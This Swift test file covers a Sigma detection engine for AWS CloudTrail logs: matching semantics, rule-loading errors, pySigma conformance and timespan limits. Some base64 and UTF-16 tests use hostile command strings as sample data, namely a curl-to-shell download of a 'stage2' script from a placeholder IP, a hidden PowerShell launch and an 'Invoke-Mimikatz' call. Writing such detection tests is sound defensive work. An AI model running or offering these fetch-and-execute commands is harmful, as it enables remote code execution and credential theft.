import Foundation
import Testing

@testable import TrailDetect
@testable import TrailReader

/// Sigma's matching semantics, each with events that must and must not match.
@Suite struct SigmaSemanticsTests {
    func check(_ detection: String, match: [String], noMatch: [String], sourceLocation: SourceLocation = #_sourceLocation) throws {
        let set = try ruleSet(rule(detection))
        for e in match { #expect(matches(set, e), "should match: \(e)", sourceLocation: sourceLocation) }
        for e in noMatch { #expect(!matches(set, e), "should not match: \(e)", sourceLocation: sourceLocation) }
    }

    @Test func plainValuesAreCaseInsensitiveAndListsAreOr() throws {
        try check(
            """
            sel:
              eventName: [CreateUser, DeleteUser]
            condition: sel
            """,
            match: [#"{"eventName":"CreateUser"}"#, #"{"eventName":"createuser"}"#, #"{"eventName":"DELETEUSER"}"#],
            noMatch: [#"{"eventName":"CreateUserX"}"#, #"{"eventName":"Create"}"#, #"{"eventSource":"x"}"#])
    }

    @Test func casedModifier() throws {
        try check(
            """
            sel:
              eventName|cased: CreateUser
            condition: sel
            """, match: [#"{"eventName":"CreateUser"}"#], noMatch: [#"{"eventName":"createuser"}"#])
    }

    @Test func wildcardsAndEscapes() throws {
        try check(
            """
            sel:
              userAgent: 'aws-cli/2.*'
              requestParameters.bucketName: 'log?-*'
            condition: sel
            """,
            match: [#"{"userAgent":"AWS-CLI/2.15","requestParameters":{"bucketName":"logs-2026"}}"#],
            noMatch: [#"{"userAgent":"aws-cli/1.2","requestParameters":{"bucketName":"logs-2026"}}"#,
                      #"{"userAgent":"aws-cli/2.1","requestParameters":{"bucketName":"log-x"}}"#])
        try check(
            """
            sel:
              requestParameters.key: 'a\\*b'
            condition: sel
            """, match: [#"{"requestParameters":{"key":"a*b"}}"#], noMatch: [#"{"requestParameters":{"key":"axxb"}}"#])
        try check(
            """
            sel:
              requestParameters.key: 'C:\\Windows\\x'
            condition: sel
            """, match: [#"{"requestParameters":{"key":"C:\\Windows\\x"}}"#], noMatch: [#"{"requestParameters":{"key":"C:Windowsx"}}"#])
    }

    @Test func containsStartsEndsAndAll() throws {
        try check(
            """
            sel:
              userAgent|contains|all: [Boto3, Linux]
              sourceIPAddress|startswith: '203.0.'
              eventSource|endswith: '.amazonaws.com'
            condition: sel
            """,
            match: [#"{"userAgent":"x Boto3/1.0 y linux","sourceIPAddress":"203.0.113.5","eventSource":"s3.amazonaws.com"}"#],
            noMatch: [#"{"userAgent":"x Boto3/1.0 y","sourceIPAddress":"203.0.113.5","eventSource":"s3.amazonaws.com"}"#,
                      #"{"userAgent":"Boto3 Linux","sourceIPAddress":"10.203.0.1","eventSource":"s3.amazonaws.com"}"#])
    }

    @Test func regexCidrAndNumbers() throws {
        try check(
            """
            sel:
              userAgent|re: '^aws-cli/[0-9]+'
              sourceIPAddress|cidr: ['203.0.113.0/24', '2001:db8::/32']
              requestParameters.durationSeconds|gte: 43200
            condition: sel
            """,
            match: [#"{"userAgent":"aws-cli/2","sourceIPAddress":"203.0.113.9","requestParameters":{"durationSeconds":129600}}"#,
                    #"{"userAgent":"aws-cli/2","sourceIPAddress":"2001:db8::1","requestParameters":{"durationSeconds":43200}}"#],
            noMatch: [#"{"userAgent":"AWS-CLI/2","sourceIPAddress":"203.0.113.9","requestParameters":{"durationSeconds":129600}}"#,
                      #"{"userAgent":"aws-cli/2","sourceIPAddress":"203.0.114.9","requestParameters":{"durationSeconds":129600}}"#,
                      #"{"userAgent":"aws-cli/2","sourceIPAddress":"iam.amazonaws.com","requestParameters":{"durationSeconds":129600}}"#,
                      #"{"userAgent":"aws-cli/2","sourceIPAddress":"203.0.113.9","requestParameters":{"durationSeconds":900}}"#])
        try check(
            """
            sel:
              userAgent|re|i: '^aws-cli'
            condition: sel
            """, match: [#"{"userAgent":"AWS-CLI/2"}"#], noMatch: [#"{"userAgent":"x aws-cli"}"#])
    }

    @Test func nullAbsentAndExists() throws {
        try check(
            """
            sel:
              errorCode: null
            condition: sel
            """, match: [#"{"eventName":"x"}"#, #"{"errorCode":null}"#], noMatch: [#"{"errorCode":"AccessDenied"}"#])
        try check(
            """
            sel:
              requestParameters.userName|exists: true
            condition: sel
            """, match: [#"{"requestParameters":{"userName":"a"}}"#, #"{"requestParameters":{"userName":null}}"#],
            noMatch: [#"{"requestParameters":null}"#, #"{"requestParameters":{}}"#, #"{"eventName":"x"}"#])
        // A value never matches an absent or null field, and `not` of it does.
        try check(
            """
            sel:
              errorCode: '*'
            condition: not sel
            """, match: [#"{"errorCode":null}"#, #"{"eventName":"x"}"#], noMatch: [#"{"errorCode":"AccessDenied"}"#])
    }

    @Test func fieldref() throws {
        try check(
            """
            sel:
              requestParameters.userName|fieldref: userIdentity.userName
            condition: sel
            """,
            match: [#"{"userIdentity":{"userName":"Jack"},"requestParameters":{"userName":"jack"}}"#],
            noMatch: [#"{"userIdentity":{"userName":"jack"},"requestParameters":{"userName":"jackson"}}"#,
                      #"{"requestParameters":{"userName":"jack"}}"#])
        try check(
            """
            sel:
              requestParameters.userName|fieldref|startswith: userIdentity.userName
            condition: sel
            """,
            match: [#"{"userIdentity":{"userName":"jack"},"requestParameters":{"userName":"jackson"}}"#],
            noMatch: [#"{"userIdentity":{"userName":"jackson"},"requestParameters":{"userName":"jack"}}"#])
    }

    @Test func arraysAreSearchedElementByElement() throws {
        try check(
            """
            sel:
              requestParameters.policyArns.arn|endswith: '/AdministratorAccess'
            condition: sel
            """,
            match: [#"{"requestParameters":{"policyArns":[{"arn":"arn:aws:iam::aws:policy/ReadOnlyAccess"},{"arn":"arn:aws:iam::aws:policy/AdministratorAccess"}]}}"#],
            noMatch: [#"{"requestParameters":{"policyArns":[{"arn":"arn:aws:iam::aws:policy/ReadOnlyAccess"}]}}"#])
        try check(
            """
            sel:
              resources.0.type: AWS::IAM::User
            condition: sel
            """, match: [#"{"resources":[{"type":"AWS::IAM::User"}]}"#], noMatch: [#"{"resources":[{"type":"x"},{"type":"AWS::IAM::User"}]}"#])
    }

    @Test func conditions() throws {
        let detection = """
            sel_a:
              eventName: A
            sel_b:
              eventName: B
            filter_x:
              userAgent: x
            filter_y:
              userAgent: y
            condition: (1 of sel_*) and not 1 of filter_*
            """
        try check(detection, match: [#"{"eventName":"A"}"#, #"{"eventName":"B","userAgent":"z"}"#],
                  noMatch: [#"{"eventName":"A","userAgent":"x"}"#, #"{"eventName":"B","userAgent":"y"}"#, #"{"eventName":"C"}"#])
        try check(
            """
            sel_a:
              eventSource: s
            sel_b:
              eventName: B
            condition: all of sel_*
            """, match: [#"{"eventSource":"s","eventName":"B"}"#], noMatch: [#"{"eventSource":"s","eventName":"A"}"#])
        try check(
            """
            a:
              eventName: A
            b:
              eventName: B
            condition: 1 of them
            """, match: [#"{"eventName":"B"}"#], noMatch: [#"{"eventName":"C"}"#])
        try check(
            """
            a:
              - eventName: A
                userAgent: u
              - eventName: B
            condition: a
            """, match: [#"{"eventName":"A","userAgent":"u"}"#, #"{"eventName":"B"}"#], noMatch: [#"{"eventName":"A"}"#])
        try check(
            """
            a:
              eventName: A
            b:
              userAgent: u
            condition: a or b and not a
            """, match: [#"{"eventName":"A"}"#, #"{"userAgent":"u"}"#], noMatch: [#"{"eventName":"B"}"#])
    }

    @Test func derivedFieldsInSelections() throws {
        try check(
            """
            sel:
              eventName: CreateAccessKey
              trailhound.target.isOtherUser: 'true'
            condition: sel
            """,
            match: [#"{"eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser","userName":"jack"},"requestParameters":{"userName":"jackson"}}"#,
                    #"{"eventName":"CreateAccessKey","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::1:assumed-role/r/s"},"requestParameters":{"userName":"jack"}}"#],
            noMatch: [#"{"eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser","userName":"jack"},"requestParameters":{"userName":"JACK"}}"#,
                      #"{"eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser","userName":"jack"},"requestParameters":{}}"#])
    }

    @Test func indexLimitsEvaluation() throws {
        let set = try ruleSet(rule("sel:\n  eventName: CreateUser\ncondition: sel"))
        #expect(set.rules[0].eventNames == ["createuser"])
        let detector = Detector(rules: set)
        for (k, name) in ["GetObject", "CreateUser", "createuser", "DescribeInstances"].enumerated() {
            let json = RuleTestRunner.completed(#"{"eventName":"\#(name)","eventSource":"iam.amazonaws.com"}"#, index: k)
            _ = EventParser.withEvent(Array(json.utf8)) { detector.process($0, file: "f") }
        }
        #expect(detector.evaluated == 2)
        #expect(detector.take().first?.count == 2)
        // The same event delivered twice (an organisation trail and an account trail) counts once.
        let again = RuleTestRunner.completed(#"{"eventName":"CreateUser","eventSource":"iam.amazonaws.com"}"#, index: 9)
        _ = EventParser.withEvent(Array(again.utf8)) { detector.process($0, file: "org-trail") }
        _ = EventParser.withEvent(Array(again.utf8)) { detector.process($0, file: "account-trail") }
        #expect(detector.take().first?.count == 1)
        let negated = try ruleSet(rule("sel:\n  eventName: CreateUser\ncondition: not sel"))
        #expect(negated.rules[0].eventNames == nil)
        let either = try ruleSet(rule("a:\n  eventName: A\nb:\n  eventName|startswith: B\ncondition: a or b"))
        #expect(either.rules[0].eventNames == nil)
        let both = try ruleSet(rule("a:\n  eventName: [A, B]\nb:\n  userAgent: x\ncondition: a and b"))
        #expect(both.rules[0].eventNames == ["a", "b"])
        // Without an eventName, eventSource indexes the rule.
        let bySource = try ruleSet(rule("a:\n  eventSource: [iam.amazonaws.com, STS.amazonaws.com]\nf:\n  eventName: GetCallerIdentity\ncondition: a and not f"))
        #expect(bySource.rules[0].eventNames == nil)
        #expect(bySource.rules[0].eventSources == ["iam.amazonaws.com", "sts.amazonaws.com"])
        let sourceDetector = Detector(rules: bySource)
        for (source, name) in [("s3.amazonaws.com", "GetObject"), ("iam.amazonaws.com", "ListUsers"), ("sts.amazonaws.com", "GetCallerIdentity")] {
            let json = RuleTestRunner.completed(#"{"eventName":"\#(name)","eventSource":"\#(source)"}"#, index: 0)
            _ = EventParser.withEvent(Array(json.utf8)) { sourceDetector.process($0, file: "f") }
        }
        #expect(sourceDetector.evaluated == 2)
        #expect(sourceDetector.take().count == 1)
    }
}

/// Rules that cannot load say why, with the file and line.
@Suite struct RuleLoadingTests {
    func parse(_ yaml: String) -> DetectError? {
        do {
            _ = try RuleParser.parse(yaml, file: "r.yml")
            return nil
        } catch let e as DetectError {
            return e
        } catch {
            return nil
        }
    }

    @Test func unsupportedFeaturesAreWarningsNamingTheFeature() {
        let unknown = parse(rule("sel:\n  requestParameters.x|utf7|contains: abc\ncondition: sel"))
        #expect(unknown?.kind == .unsupported)
        #expect(unknown?.message == "modifier 'utf7' on field 'requestParameters.x' is unsupported")
        #expect(unknown?.line == 7)
        let combination = parse(rule("sel:\n  sourceIPAddress|cidr|re: '10\\..*'\ncondition: sel"))
        #expect(combination?.kind == .unsupported)
        #expect(combination?.message == "the combination of modifiers 'cidr|re' on field 'sourceIPAddress' is unsupported")
        let placeholder = parse(rule("sel:\n  sourceIPAddress|expand: '%vpn%'\ncondition: sel"))
        #expect(placeholder?.kind == .unsupported)
        #expect(placeholder?.message.contains("placeholder '%vpn%'") == true)
        let timeframe = parse(rule("sel:\n  eventName: A\ntimeframe: 5m\ncondition: sel"))
        #expect(timeframe?.kind == .unsupported)
        #expect(timeframe?.message.contains("'timeframe'") == true)
        let agg = parse(rule("sel:\n  eventName: A\ncondition: sel | count() > 5"))
        #expect(agg?.kind == .unsupported)
    }

    @Test func invalidRulesAreErrorsWithLines() {
        let yaml = parse("title: x\ndetection:\n  sel: [unclosed\n")
        #expect(yaml?.kind == .yaml)
        #expect(yaml?.line != nil)
        let unknown = parse(rule("sel:\n  eventName: A\ncondition: sel and other"))
        #expect(unknown?.kind == .rule)
        #expect(unknown?.message.contains("other") == true)
        let badField = parse(rule("sel:\n  trailhound.nosuch: A\ncondition: sel"))
        #expect(badField?.kind == .rule)
        #expect(badField?.line == 7)
        let badRegex = parse(rule("sel:\n  eventName|re: '('\ncondition: sel"))
        #expect(badRegex?.kind == .rule)
        let noCondition = parse(rule("sel:\n  eventName: A"))
        #expect(noCondition?.kind == .rule)
        let level = parse(rule("sel:\n  eventName: A\ncondition: sel").replacingOccurrences(of: "level: high", with: "level: severe"))
        #expect(level?.kind == .rule)
    }

    @Test func aFolderWithBadRulesLoadsTheRest() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("trailhound-rules-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try rule("sel:\n  eventName: A\ncondition: sel").write(to: folder.appendingPathComponent("good.yml"), atomically: true, encoding: .utf8)
        try "title: [".write(to: folder.appendingPathComponent("broken.yml"), atomically: true, encoding: .utf8)
        try rule("k:\n  userAgent|utf7: x\ncondition: k").replacingOccurrences(of: "000000000001", with: "000000000002")
            .write(to: folder.appendingPathComponent("unsupported.yml"), atomically: true, encoding: .utf8)
        let (set, report) = RuleSet.load(bundled: rulesFolder, extra: [folder], includeBundledRules: false)
        #expect(set.rules.count == 1)
        #expect(report.files == 3)
        #expect(report.errors.count == 1)
        #expect(report.errors.first?.file.hasSuffix("broken.yml") == true)
        #expect(report.skipped.count == 1)
        #expect(report.skipped.first?.message == "modifier 'utf7' on field 'userAgent' is unsupported")
    }
}

/// Whether the single rule of `set` matches the event, found as a scan finds it: through the eventName/eventSource
/// index (`RuleMatcher`). `json` is completed like a rule test event unless `raw`.
func matchesIndexed(_ set: RuleSet, _ json: String, raw: Bool = false) -> Bool {
    let text = raw ? json : RuleTestRunner.completed(json, index: 0)
    let matcher = RuleMatcher(rules: set)
    return EventParser.withEvent(Array(text.utf8)) { !matcher.matches($0).isEmpty } ?? false
}

/// The six engine bugs the differential check against pySigma found (issue 19), and the modifiers it added; each
/// has a crafted case in Fixtures/sigma-conformance too (scripts/sigma-diff).
@Suite struct SigmaConformanceTests {
    func check(
        _ detection: String, config: SigmaConfig = SigmaConfig(), match: [String], noMatch: [String],
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws {
        let set = try RuleSet.compile(yaml: rule(detection), file: "inline.yml", config: config)
        for e in match { #expect(matchesIndexed(set, e), "should match: \(e)", sourceLocation: sourceLocation) }
        for e in noMatch { #expect(!matchesIndexed(set, e), "should not match: \(e)", sourceLocation: sourceLocation) }
    }

    // 1. A list of fields under fieldref: any of them (Sigma ORs a list), not all.
    @Test func fieldrefWithAListOfFieldsOrsThem() throws {
        let detection = """
            sel:
              eventName: UpdateUser
              userIdentity.userName|fieldref:
                - requestParameters.userName
                - requestParameters.newUserName
            condition: sel
            """
        try check(
            detection,
            match: [
                #"{"eventName":"UpdateUser","userIdentity":{"userName":"build-bot"},"requestParameters":{"userName":"build-bot","newUserName":"bot2"}}"#,
                #"{"eventName":"UpdateUser","userIdentity":{"userName":"build-bot"},"requestParameters":{"userName":"ops","newUserName":"build-bot"}}"#,
            ],
            noMatch: [#"{"eventName":"UpdateUser","userIdentity":{"userName":"build-bot"},"requestParameters":{"userName":"ops","newUserName":"ops2"}}"#])
        // With `all`, every field must equal it.
        try check(
            detection.replacingOccurrences(of: "fieldref:", with: "fieldref|all:"),
            match: [#"{"eventName":"UpdateUser","userIdentity":{"userName":"a"},"requestParameters":{"userName":"a","newUserName":"a"}}"#],
            noMatch: [#"{"eventName":"UpdateUser","userIdentity":{"userName":"a"},"requestParameters":{"userName":"a","newUserName":"b"}}"#])
    }

    // 2. A non-ASCII eventName reaches its rule through the index (the index folds ASCII only, as matching does).
    @Test func nonASCIIEventNameHitsTheIndex() throws {
        let set = try RuleSet.compile(yaml: rule("sel:\n  eventName: GetÄccountSummary\ncondition: sel"), file: "r.yml")
        #expect(set.rules[0].eventNames == ["getÄccountsummary"])
        #expect(matchesIndexed(set, #"{"eventName":"GetÄccountSummary"}"#))
        #expect(matchesIndexed(set, #"{"eventName":"getÄCCOUNTSUMMARY"}"#))
        #expect(!matchesIndexed(set, #"{"eventName":"GetäccountSummary"}"#))  // non-ASCII case is not folded
        let detector = Detector(rules: set)
        let json = RuleTestRunner.completed(#"{"eventName":"GetÄccountSummary"}"#, index: 0)
        _ = EventParser.withEvent(Array(json.utf8)) { detector.process($0, file: "f") }
        #expect(detector.evaluated == 1)
    }

    // 3. The index keys on decoded values: a `\u0055` escape, and a number as written.
    @Test func theIndexUsesDecodedValues() throws {
        let byName = try RuleSet.compile(yaml: rule("sel:\n  eventName: UpdateLoginProfile\ncondition: sel"), file: "r.yml")
        let escaped = #"{"eventVersion":"1.11","eventTime":"2026-11-20T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"\u0055pdateLoginProfile","awsRegion":"us-east-1","recipientAccountId":"111122223333","eventID":"e1"}"#
        #expect(matchesIndexed(byName, escaped, raw: true))
        let bySource = try RuleSet.compile(
            yaml: rule("sel:\n  eventSource: iam.amazonaws.com\nf:\n  eventName: ListUsers\ncondition: sel and not f"), file: "r.yml")
        #expect(bySource.rules[0].eventSources == ["iam.amazonaws.com"])
        #expect(matchesIndexed(bySource, escaped.replacingOccurrences(of: "iam.amazonaws.com", with: #"iam.amazon\u0061ws.com"#), raw: true))
        let byNumber = try RuleSet.compile(yaml: rule("sel:\n  eventName: 4711\ncondition: sel"), file: "r.yml")
        #expect(matchesIndexed(byNumber, #"{"eventName":4711}"#))
        #expect(!matchesIndexed(byNumber, #"{"eventName":4712}"#))
    }

    // 4. `?` stands for one character, however many bytes its UTF-8 takes.
    @Test func questionMarkIsOneCharacter() throws {
        try check(
            "sel:\n  userAgent: 'caf?-scanner/*'\ncondition: sel",
            match: [#"{"userAgent":"café-scanner/1.0"}"#, #"{"userAgent":"caf€-scanner/1.0"}"#, #"{"userAgent":"caf😀-scanner/1"}"#, #"{"userAgent":"cafe-scanner/1"}"#],
            noMatch: [#"{"userAgent":"cafxx-scanner/1.0"}"#, #"{"userAgent":"caf-scanner/1.0"}"#, #"{"userAgent":"cafée-scanner/1"}"#])
        try check(
            "sel:\n  userAgent: '*??'\ncondition: sel",
            match: [#"{"userAgent":"éé"}"#, #"{"userAgent":"ab"}"#], noMatch: [#"{"userAgent":"é"}"#])
    }

    // 5. An object is never equal to a string or pattern, however the log formats it; it exists, though.
    @Test func anObjectNeverMatchesText() throws {
        let compact = #"{"eventName":"PutUserPolicy","requestParameters":{"userName":"ops"}}"#
        let spaced = #"{"eventName":"PutUserPolicy","requestParameters": { "userName" : "ops" }}"#
        try check("sel:\n  requestParameters|contains: '\"userName\":\"ops\"'\ncondition: sel", match: [], noMatch: [compact, spaced])
        try check("sel:\n  requestParameters: '*'\ncondition: sel", match: [], noMatch: [compact, spaced])
        try check("sel:\n  requestParameters|re: '.'\ncondition: sel", match: [], noMatch: [compact, spaced])
        try check("sel:\n  requestParameters|exists: true\ncondition: sel", match: [compact, spaced], noMatch: [#"{"eventName":"x"}"#])
        // Its scalars still match by path.
        try check("sel:\n  requestParameters.userName: ops\ncondition: sel", match: [compact, spaced], noMatch: [])
    }

    // 6. gt/lt/gte/lte compare decimal numbers only: not hexadecimal, infinity or NaN.
    @Test func comparisonsTakeDecimalNumbersOnly() throws {
        try check(
            "sel:\n  requestParameters.durationSeconds|gt: 3600\ncondition: sel",
            match: [#"{"requestParameters":{"durationSeconds":43200}}"#, #"{"requestParameters":{"durationSeconds":"3600.5"}}"#,
                    #"{"requestParameters":{"durationSeconds":4e3}}"#],
            noMatch: [#"{"requestParameters":{"durationSeconds":"0x10000"}}"#, #"{"requestParameters":{"durationSeconds":"inf"}}"#,
                      #"{"requestParameters":{"durationSeconds":"Infinity"}}"#, #"{"requestParameters":{"durationSeconds":"nan"}}"#,
                      #"{"requestParameters":{"durationSeconds":"1e999"}}"#, #"{"requestParameters":{"durationSeconds":900}}"#,
                      #"{"requestParameters":{"durationSeconds":" 5000"}}"#])
        try check(
            "sel:\n  requestParameters.durationSeconds|lte: -1.5\ncondition: sel",
            match: [#"{"requestParameters":{"durationSeconds":-2}}"#, #"{"requestParameters":{"durationSeconds":"-1.5"}}"#],
            noMatch: [#"{"requestParameters":{"durationSeconds":"-inf"}}"#, #"{"requestParameters":{"durationSeconds":-1}}"#])
        for bad in ["0x10", "inf", "nan", "1e999", "12abc"] {
            #expect(throws: DetectError.self) { try RuleParser.parse(rule("sel:\n  x|gt: '\(bad)'\ncondition: sel"), file: "r.yml") }
        }
    }

    @Test func base64AndBase64offset() throws {
        func encoded(_ s: String) -> String { Data(s.utf8).base64EncodedString() }
        try check(
            "sel:\n  requestParameters.userData|base64: 'curl -s http://203.0.113.9/x | sh'\ncondition: sel",
            match: [#"{"requestParameters":{"userData":"\#(encoded("curl -s http://203.0.113.9/x | sh"))"}}"#],
            noMatch: [#"{"requestParameters":{"userData":"\#(encoded("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh"))"}}"#])
        let script = "#!/bin/bash\ncurl -s http://203.0.113.9/stage2 | sh\n"
        try check(
            "sel:\n  requestParameters.userData|base64offset|contains: 'curl -s http://203.0.113.9/'\ncondition: sel",
            match: ["", "x", "xy", "xyz"].map { #"{"requestParameters":{"userData":"\#(encoded($0 + script))"}}"# },
            noMatch: [#"{"requestParameters":{"userData":"\#(encoded("wget http://203.0.113.9/"))"}}"#])
        #expect(Encoding.base64Offsets(Array("abc".utf8)).map { String(decoding: $0, as: UTF8.self) } == ["YWJj", "FiY", "hYm"])  // as pySigma cuts them
    }

    @Test func utf16Encodings() throws {
        func base64(_ bytes: [UInt8]) -> String { Data(bytes).base64EncodedString() }
        func le(_ s: String) -> [UInt8] { s.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } }
        func be(_ s: String) -> [UInt8] { s.utf16.flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] } }
        let command = "powershell -nop -w hidden"
        for modifier in ["wide", "utf16le"] {
            try check(
                "sel:\n  requestParameters.userData|\(modifier)|base64offset|contains: 'powershell -nop'\ncondition: sel",
                match: ["", "a", "ab"].map { #"{"requestParameters":{"userData":"\#(base64(le($0 + command)))"}}"# },
                noMatch: [#"{"requestParameters":{"userData":"\#(base64(Array(command.utf8)))"}}"#])
        }
        try check(
            "sel:\n  requestParameters.userData|utf16be|base64: 'powershell'\ncondition: sel",
            match: [#"{"requestParameters":{"userData":"\#(base64(be("powershell")))"}}"#],
            noMatch: [#"{"requestParameters":{"userData":"\#(base64(le("powershell")))"}}"#])
        try check(
            "sel:\n  requestParameters.userData|utf16|base64|startswith: 'Invoke-M'\ncondition: sel",
            match: [#"{"requestParameters":{"userData":"\#(base64([0xFF, 0xFE] + le("Invoke-Mimikatz")))"}}"#],
            noMatch: [#"{"requestParameters":{"userData":"\#(base64(le("Invoke-Mimikatz")))"}}"#])
        #expect(throws: DetectError.self) { try RuleParser.parse(rule("sel:\n  x|base64: 'a*b'\ncondition: sel"), file: "r.yml") }
    }

    @Test func windash() throws {
        try check(
            "sel:\n  requestParameters.comment|windash|contains: ' -enc '\ncondition: sel",
            match: ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"].map { #"{"requestParameters":{"comment":"powershell \#($0)enc SQBFAFgA"}}"# },
            noMatch: [#"{"requestParameters":{"comment":"powershell enc SQBFAFgA"}}"#, #"{"requestParameters":{"comment":"powershell +enc x"}}"#])
        // Only a dash that starts a flag: not one inside a word.
        #expect(Windash.variants("a-b") == ["a-b"])
        #expect(Windash.variants("-a -b")?.count == 25)
        #expect(Windash.variants("-a -b -c -d") == nil)
    }

    @Test func expandTakesPlaceholdersFromTheConfig() throws {
        let config = try SigmaConfig(yaml: "vars:\n  admin_addresses:\n    - 203.0.113.77\n    - 198.51.100.*\n  one: 192.0.2.1\n", file: "c.yml")
        #expect(config.placeholders["one"] == ["192.0.2.1"])
        try check(
            "sel:\n  sourceIPAddress|expand: '%admin_addresses%'\ncondition: sel", config: config,
            match: [#"{"sourceIPAddress":"203.0.113.77"}"#, #"{"sourceIPAddress":"198.51.100.5"}"#],
            noMatch: [#"{"sourceIPAddress":"192.0.2.44"}"#])
        try check(
            "sel:\n  userIdentity.arn|expand: 'arn:aws:iam::%one%:*'\ncondition: sel", config: config,
            match: [#"{"userIdentity":{"arn":"arn:aws:iam::192.0.2.1:user/x"}}"#], noMatch: [#"{"userIdentity":{"arn":"arn:aws:iam::1:user/x"}}"#])
        #expect(throws: DetectError.self) { try SigmaConfig(yaml: "vars: [a, b]", file: "c.yml") }
    }

    @Test func neq() throws {
        try check(
            "sel:\n  eventName: DeleteTrail\n  awsRegion|neq:\n    - us-east-1\n    - eu-west-1\ncondition: sel",
            match: [#"{"eventName":"DeleteTrail","awsRegion":"ap-southeast-2"}"#],
            noMatch: [#"{"eventName":"DeleteTrail","awsRegion":"us-east-1"}"#, #"{"eventName":"DeleteTrail","awsRegion":"EU-WEST-1"}"#])
        // neq does not take the rule off the eventName index of its own field's literal.
        let set = try RuleSet.compile(yaml: rule("sel:\n  eventName|neq: GetObject\ncondition: sel"), file: "r.yml")
        #expect(set.rules[0].eventNames == nil)
        #expect(matchesIndexed(set, #"{"eventName":"PutObject"}"#))
    }

    @Test func timeModifiers() throws {
        try check(
            "night:\n  eventTime|hour: 3\nnye:\n  eventTime|month: 12\n  eventTime|day: 31\n  eventTime|minute: 45\ncondition: night or nye",
            match: [#"{"eventTime":"2026-11-21T03:15:09Z"}"#, #"{"eventTime":"2026-12-31T23:45:00Z"}"#],
            noMatch: [#"{"eventTime":"2026-11-21T14:15:09Z"}"#, #"{"eventTime":"2026-12-30T23:45:00Z"}"#])
        try check(
            "sel:\n  eventTime|year: 2027\n  eventTime|week: 5\ncondition: sel",
            match: [#"{"eventTime":"2027-02-07T03:59:59Z"}"#, #"{"eventTime":"2027-02-01T00:00:00Z"}"#],
            noMatch: [#"{"eventTime":"2027-01-31T23:59:59Z"}"#, #"{"eventTime":"2026-02-07T03:59:59Z"}"#])
        // ISO weeks at the turn of the year: 2027-01-01 (a Friday) is in week 53 of 2026; 2025-12-29 in week 1.
        let week = ValueMatcher.TimePart.week
        #expect(week.value(of: Timestamp.parse("2027-01-01T12:00:00Z")!) == 53)
        #expect(week.value(of: Timestamp.parse("2025-12-29T12:00:00Z")!) == 1)
        #expect(week.value(of: Timestamp.parse("2026-01-05T00:00:00Z")!) == 2)
    }

    @Test func regexFlagsByTheirLongNames() throws {
        try check(
            "sel:\n  userAgent|re|ignorecase|multiline: '^pacu/'\ncondition: sel",
            match: [#"{"userAgent":"Boto3/1.34\nPACU/1.6"}"#], noMatch: [#"{"userAgent":"Boto3/1.34 PACU/1.6"}"#])
        try check(
            "sel:\n  userAgent|re|dotall: 'Botocore.*PACU'\ncondition: sel",
            match: [#"{"userAgent":"md/Botocore#1.34\nPACU/1.6"}"#], noMatch: [#"{"userAgent":"md/Botocore#1.34\npacu/1.6"}"#])
    }

    @Test func keywordDetections() throws {
        try check(
            "keywords:\n  - 'backdoor-'\n  - 4711\nsel:\n  eventName: CreateUser\ncondition: sel and keywords",
            match: [#"{"eventName":"CreateUser","requestParameters":{"userName":"svc-Backdoor-admin"}}"#,
                    #"{"eventName":"CreateUser","userAgent":"backdoor-kit/0.3"}"#,
                    #"{"eventName":"CreateUser","requestParameters":{"tags":[{"key":"n","value":"x"},{"key":"id","value":"47110"}]}}"#],
            noMatch: [#"{"eventName":"CreateUser","requestParameters":{"userName":"svc-reporting"}}"#,
                      #"{"eventName":"CreateUser","requestParameters":{"backdoor-":"member names are not values"}}"#])
        try check("keywords: 'evil*tool'\ncondition: keywords", match: [#"{"userAgent":"an evil-ish tool"}"#], noMatch: [#"{"userAgent":"tool evil"}"#])
    }
}

/// Correlation `timespan` edge cases: units, signs, zero, fractions and spans so large they would overflow event times.
@Suite struct TimeSpanTests {
    @Test func timespansAreWholePositiveNumbersWithAUnit() {
        #expect(TimeSpan.seconds("90m") == 5_400)
        #expect(TimeSpan.seconds("1d") == 86_400)
        #expect(TimeSpan.seconds("2w") == 1_209_600)
        for bad in ["0s", "-5m", "+5m", "1.5h", "5", "m", "", " 5m", "5 m", "5H", "٥m", "9223372036854775807s", "9999999999y", "101y"] {
            #expect(TimeSpan.seconds(bad) == nil, "\(bad)")
        }
        #expect(TimeSpan.seconds("100y") == 3_153_600_000)
    }

    @Test func aCorrelationWithAnOverflowingTimespanIsAnErrorNotACrash() throws {
        let yaml = """
            title: base
            id: 00000000-0000-4000-8000-0000000000b1
            name: base_rule
            logsource: {product: aws, service: cloudtrail}
            detection:
              sel:
                eventName: GetSecretValue
              condition: sel
            ---
            title: burst
            id: 00000000-0000-4000-8000-0000000000b2
            correlation:
              type: event_count
              rules: [base_rule]
              group-by: [userIdentity.arn]
              timespan: 9223372036854775807s
              condition:
                gte: 2
            """
        #expect(throws: DetectError.self) { try RuleParser.parseAll(yaml, file: "corr.yml") }
        let ok = try RuleParser.parseAll(yaml.replacingOccurrences(of: "9223372036854775807s", with: "10m"), file: "corr.yml")
        #expect(ok[1].correlation?.timespan == 600)
    }
}
